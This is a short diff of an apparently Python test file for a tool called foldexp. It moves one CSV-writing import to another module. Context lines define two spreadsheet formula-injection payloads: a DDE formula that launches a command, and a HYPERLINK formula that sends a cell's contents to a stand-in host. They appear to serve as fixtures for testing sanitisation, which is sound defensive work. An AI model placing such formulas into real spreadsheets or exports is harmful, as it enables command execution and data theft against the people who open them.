@@ -19,7 +19,8 @@ from foldexp.analysis.report import run_report
 from foldexp.cli import main
 from foldexp.data.cells import markdown_cell, spreadsheet_cell, spreadsheet_frame
 from foldexp.data.commands import markdown_table
-from foldexp.train.artifacts import write_json, write_metrics_csv
+from foldexp.train.artifacts import write_json
+from foldexp.train.curves import write_metrics_csv
 
 CALC = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
